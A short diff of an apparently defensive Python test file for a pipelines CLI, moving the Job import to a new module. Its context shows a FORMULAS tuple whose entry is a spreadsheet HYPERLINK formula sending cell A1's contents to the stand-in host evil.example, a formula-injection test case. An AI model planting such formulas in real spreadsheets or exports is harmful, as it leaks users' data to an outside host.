@@ -16,7 +16,7 @@ from test_trials_market import market, published, run, warehouse
 from typer.testing import CliRunner
 
 from pipelines.cli import app
-from pipelines.stages import Job
+from pipelines.job import Job
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?x="&A1,"click")',
